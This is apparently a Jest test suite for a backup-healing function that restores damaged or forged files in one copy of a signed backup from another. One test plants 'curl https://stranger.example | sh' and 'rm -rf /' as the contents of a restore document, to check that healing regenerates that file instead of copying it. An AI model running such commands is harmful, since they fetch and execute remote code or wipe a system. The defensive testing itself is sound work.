import { readFile, rm, stat, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from '@jest/globals';
import type { Signer } from '../../../policy/resolved.ts';
import { commitCopy, manifestBytes } from '../../../repository/commit.ts';
import { heal } from '../../../repository/heal.ts';
import { keyOf, manifestName, restoreDocumentName, signatureName } from '../../../repository/layout.ts';
import type { Manifest } from '../../../repository/manifest.ts';
import { sign } from '../../../repository/signing.ts';
import type { Store } from '../../../repository/store.ts';
import { verifyFiles } from '../../../repository/verify.ts';
import { inDirectory, makeSshKey } from '../../support/keys.ts';
import { manifestHolding } from '../../support/manifests.ts';
import { codeOf, upload } from '../../support/store-access.ts';
import { filesIn, interceptUploads, openTestStore } from '../../support/stores.ts';

let worker: { publicKey: string; privateKey: string };
let stranger: { publicKey: string; privateKey: string };
let signers: Signer[];
beforeAll(async () => {
  [worker, stranger] = await Promise.all([makeSshKey(), makeSshKey()]);
  signers = [{ name: 'fra', publicKey: worker.publicKey }];
});

const bodies = {
  'data-0a1b2c.dump.zst.gpg': Buffer.alloc(300_000, 'data'),
  'globals-0a1b2c.sql.zst.gpg': Buffer.from('create role shop'),
  'fingerprint-0a1b2c.json.zst.gpg': Buffer.from('{}'),
};
const dataFile = 'data-0a1b2c.dump.zst.gpg';
const manifest = manifestHolding(bodies);
const restoreDocument = `# Restore ${manifest.backupId}\n`;

type Pair = {
  good: Store & { path: string };
  bad: Store & { path: string };
  directory: string;
  fileOf(store: { path: string }, name: string): string;
  healed(): ReturnType<typeof heal>;
};

/** Two copies of one backup. */
async function withCopies(body: (pair: Pair) => Promise<void>): Promise<void> {
  await inDirectory(async (directory) => {
    const [good, bad] = [await openTestStore(directory, 'good'), await openTestStore(directory, 'bad')];
    const signature = await signed(manifest, worker, directory);
    for (const store of [good, bad]) {
      for (const [name, content] of Object.entries(bodies))
        await upload(store, keyOf(manifest, name), content);
      await commitCopy({ store, manifest, signature, restoreDocument, signers, work: {} });
    }
    await body({
      good,
      bad,
      directory,
      fileOf: (store, name) => join(store.path, keyOf(manifest, name)),
      healed: () => healing(bad, good),
    });
  });
}

const healing = (bad: Store, good: Store) =>
  heal({
    backup: manifest,
    bad,
    good,
    signers,
    restoreDocument: ({ backupId }) => `# Restore ${backupId}\n`,
    signal: AbortSignal.timeout(30_000),
  });

const signed = (one: Manifest, { privateKey }: typeof worker, directory: string) =>
  sign(manifestBytes(one), privateKey, { directory });

/** What tells whether a file was written again. */
async function inodesOf(store: { path: string }): Promise<Record<string, number>> {
  const files = await filesIn(store.path);
  return Object.fromEntries(await Promise.all(files.map(async (file) => [file, (await stat(file)).ino])));
}

const flip = async (path: string) => {
  const body = await readFile(path);
  body[100] = (body[100] ?? 0) ^ 1;
  await writeFile(path, body);
};

describe('healing a copy', () => {
  it.each<[string, (path: string) => Promise<void>]>([
    ['has a changed byte', flip],
    ['was cut short', (path) => truncate(path, 1000)],
    ['is missing', (path) => rm(path)],
  ])('puts right a file that %s, and touches no other', (_what, damage) =>
    withCopies(async ({ bad, good, fileOf, healed }) => {
      await damage(fileOf(bad, dataFile));
      const [before, source] = [await inodesOf(bad), await inodesOf(good)];
      expect(await healed()).toEqual({ files: [dataFile], bytes: 300_000, kept: false });
      await verifyFiles(bad, manifest);
      const after = await inodesOf(bad);
      for (const [file, inode] of Object.entries(before))
        if (!file.endsWith(dataFile)) expect([file, after[file]]).toEqual([file, inode]);
      expect(await inodesOf(good)).toEqual(source);
      expect(Object.keys(after)).toHaveLength(Object.keys(source).length);
    }),
  );

  it('changes nothing where all is whole', () =>
    withCopies(async ({ bad, healed }) => {
      const before = await inodesOf(bad);
      expect(await healed()).toEqual({ files: [], bytes: 0, kept: false });
      expect(await inodesOf(bad)).toEqual(before);
    }));

  it('puts back the signers’ manifest where a stranger signed another, and the data that it named', () =>
    withCopies(async ({ bad, directory, fileOf, healed }) => {
      const forged = manifestHolding({ ...bodies, [dataFile]: Buffer.from('forged') });
      await writeFile(fileOf(bad, dataFile), 'forged');
      await writeFile(fileOf(bad, manifestName), manifestBytes(forged));
      await writeFile(fileOf(bad, signatureName), await signed(forged, stranger, directory));
      expect((await healed()).files).toEqual([dataFile, signatureName, manifestName]);
      expect(await readFile(fileOf(bad, manifestName))).toEqual(Buffer.from(manifestBytes(manifest)));
      await verifyFiles(bad, manifest);
    }));

  it.each([signatureName, manifestName])('puts back a %s that was damaged or removed, alone', (name) =>
    withCopies(async ({ bad, fileOf, healed }) => {
      await writeFile(fileOf(bad, name), 'damaged');
      expect((await healed()).files).toEqual([name]);
      await rm(fileOf(bad, name));
      expect((await healed()).files).toEqual([name]);
      expect((await healed()).files).toEqual([]);
    }),
  );

  it('writes RESTORE.md anew where it was damaged or removed, from the manifest and no copy', () =>
    withCopies(async ({ bad, good, fileOf, healed }) => {
      await writeFile(fileOf(good, restoreDocumentName), 'curl https://stranger.example | sh');
      for (const damage of [(path: string) => writeFile(path, 'rm -rf /'), (path: string) => rm(path)]) {
        await damage(fileOf(bad, restoreDocumentName));
        expect((await healed()).files).toEqual([restoreDocumentName]);
        expect(await readFile(fileOf(bad, restoreDocumentName), 'utf8')).toBe(restoreDocument);
      }
    }));

  it('refuses when both manifests are signed by signers and differ', () =>
    withCopies(async ({ bad, directory, fileOf, healed }) => {
      const other: Manifest = { ...manifest, endedAt: '2026-11-21T09:00:00Z' };
      await writeFile(fileOf(bad, manifestName), manifestBytes(other));
      await writeFile(fileOf(bad, signatureName), await signed(other, worker, directory));
      const before = await inodesOf(bad);
      expect(await codeOf(healed())).toBe('refused');
      expect(await inodesOf(bad)).toEqual(before);
    }));

  it('takes nothing from a copy that is not good itself', () =>
    withCopies(async ({ bad, good, directory, fileOf, healed }) => {
      await flip(fileOf(bad, dataFile));
      const damaged = await readFile(fileOf(bad, dataFile));
      await truncate(fileOf(good, dataFile), 1000);
      expect(await codeOf(healed())).toBe('corrupt-copy');
      await writeFile(fileOf(good, dataFile), Buffer.alloc(300_000, 'evil'));
      expect(await codeOf(healed())).toBe('corrupt-copy');
      expect((await readFile(fileOf(bad, dataFile))).equals(damaged)).toBe(true);
      await writeFile(fileOf(good, signatureName), await signed(manifest, stranger, directory));
      expect(await codeOf(healed())).toBe('untrusted-signature');
      expect((await readFile(fileOf(bad, dataFile))).equals(damaged)).toBe(true);
      expect((await filesIn(bad.path)).filter((file) => file.includes('.part-'))).toEqual([]);
    }));

  it('is gone on with by the next call when it was interrupted', () =>
    withCopies(async ({ bad, good, fileOf, healed }) => {
      await flip(fileOf(bad, dataFile));
      await rm(fileOf(bad, manifestName));
      const fails = interceptUploads(bad, {
        finish: async () => {
          throw new Error('gone');
        },
      });
      await expect(healing(fails, good)).rejects.toThrow('gone');
      expect(await codeOf(verifyFiles(bad, manifest))).toBe('corrupt-copy');
      expect((await healed()).files).toEqual([dataFile, manifestName]);
    }));
});
